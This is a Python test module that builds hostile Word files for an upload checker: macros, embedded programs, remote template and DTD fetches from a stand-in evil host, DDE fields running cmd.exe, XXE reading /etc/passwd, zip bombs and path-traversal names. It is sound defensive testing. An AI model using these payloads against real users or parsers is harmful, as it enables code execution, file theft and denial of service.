"""Hostile Word documents and archives: macros, objects, links that act, traps for parsers, bombs, archives in disguise."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator

from tests.kit.uploads.makers import (
    MAIN,
    Parts,
    document_xml,
    edited_zip,
    minimal,
    packed,
    parts_of,
    relation,
    relations_of,
    streamed,
)

File = tuple[str, bytes]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
PROGRAM = b"MZ" + bytes(62) + b"PE\0\0" + bytes(300)
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
TEMPLATE = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"


def _spread(parts: Parts, draw: random.Random) -> bytes:
    """The same parts as one program or another would pack them, in whatever order."""
    names = list(parts)
    draw.shuffle(names)
    mixed = {name: parts[name] for name in names}
    way = draw.randrange(3)
    return streamed(mixed) if way == 0 else packed(mixed, zipfile.ZIP_STORED if way == 1 else zipfile.ZIP_DEFLATED)


def macros(base: bytes, draw: random.Random) -> Iterator[File]:
    """A document with a program in it, however it is named and announced."""
    kind = "application/vnd.ms-office.vbaProject"
    for number in range(12):
        for name in ("word/vbaProject.bin", "word/VBAPROJECT.BIN", "word/media/image9.png", "word/vbaData.xml"):
            types = f'<Override PartName="/{name}" ContentType="{kind}"/>' if number % 2 else ""
            linked = (
                relation("rId7", draw.choice(["vbaProject", "wordVbaData"]), name.removeprefix("word/"))
                if number % 3
                else ""
            )
            if not types and not linked and not name.lower().endswith(".bin"):
                linked = relation("rId7", "vbaProject", "x.xml")
            content = minimal(relations=linked, types=types) | {name: b"<x/>" if name.endswith("xml") else OLE}
            yield f"macro{number}.docx", _spread(content, draw)
    yield "docm.docx", packed(minimal(main=MACRO_MAIN))
    yield "dotx.docx", packed(minimal(main=TEMPLATE))
    yield "both.docx", packed(minimal(types=f'<Override PartName="/word/other.xml" ContentType="{MACRO_MAIN}"/>'))


def objects(base: bytes, draw: random.Random) -> Iterator[File]:
    """Files within the file: OLE objects, programs, archives and documents, under true and under harmless names."""
    held = [
        OLE,
        PROGRAM,
        packed({"a.txt": b"a"}),
        b"%PDF-1.7\n",
        b"{\\rtf1}",
        b"\x1f\x8b\x08" + bytes(30),
        b"\x7fELF" + bytes(90),
    ]
    names = (
        "word/embeddings/oleObject1.bin",
        "word/embeddings/book.xlsx",
        "word/activeX/activeX1.bin",
        "word/media/image1.emf",
        "word/media/image2.png",
        "word/afchunk.html",
        "word/x.exe",
        "word/x.docx",
        "customXml/item.js",
        "word/fonts/f.odttf",
    )
    for name in names:
        for content in held:
            yield "object.docx", _spread(parts_of(base) | {name: content}, draw)
    for element in ("<w:object><o:OLEObject xmlns:o='urn:o'/></w:object>", "<w:control/>", "<w:altChunk/>", "<w:subDoc/>"):
        yield "element.docx", packed(minimal(element))


def leads(base: bytes, draw: random.Random) -> Iterator[File]:
    """Relations that fetch something when the document is opened, and links that are no web page."""
    fetched = (
        "attachedTemplate",
        "image",
        "oleObject",
        "frame",
        "subDocument",
        "aFChunk",
        "externalLink",
        "mailMergeSource",
        "video",
    )
    targets = (
        "https://evil.example.com/x.dotm",
        "file://host/share/x",
        "\\\\host\\share\\x",
        "../x",
        "mhtml:https://a.example.com!x",
    )
    for kind in fetched:
        for target in targets:
            parts = minimal(relations=relation("rId3", kind, target, draw.choice(["External", "external", "EXTERNAL "])))
            yield "fetch.docx", _spread(parts, draw)
    for target in (
        "javascript:alert(1)",
        "file:///C:/x.exe",
        "\\\\host\\x",
        "//host/x",
        "ms-msdt:/id",
        " vbscript:x",
        "data:text/html,x",
    ):
        for part in ("word/_rels/document.xml.rels", "word/_rels/settings.xml.rels", "word/_rels/footnotes.xml.rels"):
            linked = {part: relations_of(relation("rId3", "hyperlink", target, "External"))}
            yield "link.docx", packed(minimal() | linked)
    for kind in ("vbaProject", "control", "package", "ui/extensibility", "attachedTemplate"):
        yield "inside.docx", packed(minimal(relations=relation("rId3", kind, "something.xml")))


def fields(base: bytes, draw: random.Random) -> Iterator[File]:
    """Fields that run or fetch something, whole or scattered over many runs."""
    for code in ("DDEAUTO", "DDE", "dde", "IncludeText", "LINK", "Import"):
        text = f' {code} c:\\windows\\system32\\cmd.exe "/k calc" '
        for length in (1, 2, 3, 100):
            runs = "".join(f"<w:instrText>{text[i : i + length]}</w:instrText>" for i in range(0, len(text), length))
            page = "<w:fldChar/><w:instrText> PAGE </w:instrText><w:fldChar/>" if draw.random() < 0.5 else ""
            yield "field.docx", packed(minimal(f"<w:p><w:r>{page}<w:fldChar/>{runs}<w:fldChar/></w:r></w:p>"))
        simple = text.replace('"', "&quot;")
        yield "simple.docx", packed(minimal(f'<w:p><w:fldSimple w:instr="{simple}"/></w:p>'))


LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def xml(base: bytes, draw: random.Random) -> Iterator[File]:
    """XML that grows, reads files, nests without end, or is none."""
    for part in ("word/document.xml", "[Content_Types].xml", "_rels/.rels", "word/styles.xml", "customXml/item1.xml"):
        for before in (LAUGHS, OUTSIDE, "<!DOCTYPE x>", '<!DOCTYPE x SYSTEM "https://evil.example.com/x.dtd">'):
            yield "doctype.docx", packed(minimal() | {part: document_xml("<w:p/>", before)})
        for content in (b"", b"<a>", b"no xml", b"<a></b>", b"\xff\xfe<", b"<a>" * 3000 + b"</a>" * 3000, b"<a/>" + PROGRAM):
            yield "no xml.docx", packed(minimal() | {part: content})


def bombs(base: bytes, draw: random.Random) -> Iterator[File]:
    """Small files that unfold into large ones, openly or under false sizes."""
    for size in (8, 60):
        for name in ("word/document.xml", "word/media/a.png", "customXml/item1.xml"):
            folded = minimal() | {name: b" " * (size << 20)}
            content = packed(folded, level=1 + size % 3)
            yield "bomb.docx", content
            yield "false size.docx", edited_zip(content, _smaller)
    many = {f"word/media/{number}.png": b"" for number in range(3000)}
    yield "many.docx", packed(minimal() | many)
    yield "overlapping.docx", _overlapping()


def _smaller(content: bytearray, _directory: int, records: list[int]) -> None:
    """Declare the largest entry as small, in the directory and in its own header."""
    largest = max(records, key=lambda at: int(struct.unpack_from("<I", content, at + 24)[0]))
    struct.pack_into("<I", content, largest + 24, 100)
    (offset,) = struct.unpack_from("<I", content, largest + 42)
    struct.pack_into("<I", content, offset + 22, 100)


def _overlapping() -> bytes:
    """Many entries that are the same bytes."""
    data = zlib.compress(bytes(1 << 20), 9)[2:-4]
    checksum = zlib.crc32(bytes(1 << 20))
    name = b"word/media/a.png"
    body = (
        struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0, checksum, len(data), 1 << 20, len(name), 0) + name + data
    )
    records = b""
    for number in range(200):
        alias = b"word/media/%d.png" % number
        sizes = (checksum, len(data), 1 << 20, len(alias), 0, 0, 0, 0, 0, 0)
        records += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *sizes) + alias
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 200, 200, len(records), len(body), 0)
    return body + records + end


def tricks(base: bytes, draw: random.Random) -> Iterator[File]:
    """Archives that two readers read differently, or that write where they should not."""
    for name in ("../x.xml", "/x.xml", "word/../../x.xml", "word\\x.xml", "C:/x.xml", "word//x.xml", "./x.xml", "a\x01.xml"):
        yield "path.docx", packed(minimal() | {name: b"<a/>"})
    twice = minimal() | {"WORD/document.xml": document_xml("<w:p/>")}
    yield "case.docx", packed(twice)
    for before in (
        b"\0",
        PROGRAM,
        b"%PDF-1.7\n",
        b"GIF89a",
        b"<html>",
        b"\x89PNG\r\n\x1a\n",
        b"\xff\xd8\xff",
        b"PK\x03\x04",
    ):
        yield "before.docx", before + base
        yield "behind.docx", base + before
        end = len(base) - 22
        commented = base[:end] + base[end:-2] + struct.pack("<H", len(before)) + before
        yield "comment.docx", commented
    for at, values in ((6, (1, 0x20, 0x2000)), (8, (1, 9, 12, 14, 99))):
        for value in values:
            yield "header.docx", edited_zip(base, lambda c, d, r, a=at, v=value: _set(c, r, a, v))  # type: ignore[misc]
    yield "two names.docx", _second_name(base)
    for number in range(10):
        yield "name.docx", edited_zip(base, lambda c, d, r, n=number: _rename(c, r[n % len(r)]))  # type: ignore[misc]
        where = draw.randint(30, len(base) - 30)
        yield "gap.docx", base[:where] + bytes(draw.randint(1, 99)) + base[where:]


def _set(content: bytearray, records: list[int], at: int, value: int) -> None:
    for record in records:
        struct.pack_into("<H", content, record + at + 2, value)
        (offset,) = struct.unpack_from("<I", content, record + 42)
        struct.pack_into("<H", content, offset + at, value)


def _second_name(base: bytes) -> bytes:
    """The first entry is also called by another name, in a field for names in Unicode."""
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for number, (name, content) in enumerate(parts_of(base).items()):
            entry = zipfile.ZipInfo(name)
            if not number:
                other = b"word/vbaProject.bin"
                entry.extra = struct.pack("<HHBI", 0x7075, 5 + len(other), 1, zlib.crc32(name.encode())) + other
            archive.writestr(entry, content)
    return target.getvalue()


def _rename(content: bytearray, record: int) -> None:
    """Another name in the entry than in the directory."""
    (offset,) = struct.unpack_from("<I", content, record + 42)
    content[offset + 30] ^= 1


def disguised(base: bytes, draw: random.Random) -> Iterator[File]:
    """Archives that are no Word documents."""
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    show = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
    for main in (sheet, show, "application/xml", "text/html", MAIN + "x", MAIN.upper() + " "):
        yield "other.docx", packed(minimal(main=main))
    yield "zip.docx", packed({"readme.txt": b"hello"})
    yield "jar.docx", packed({"META-INF/MANIFEST.MF": b"Main-Class: X", "X.class": b"\xca\xfe\xba\xbe"})
    yield "odt.docx", packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<a/>"})
    for missing in ("[Content_Types].xml", "_rels/.rels"):
        yield "part missing.docx", packed({name: content for name, content in minimal().items() if name != missing})
    two = relation("rId1", "officeDocument", "word/document.xml") + relation("rId2", "officeDocument", "word/other.xml")
    yield "two mains.docx", packed(minimal() | {"_rels/.rels": relations_of(two)})
    elsewhere = relations_of(relation("rId1", "officeDocument", "word/other.xml"))
    yield "main elsewhere.docx", packed(minimal() | {"_rels/.rels": elsewhere, "word/other.xml": document_xml("<w:p/>")})
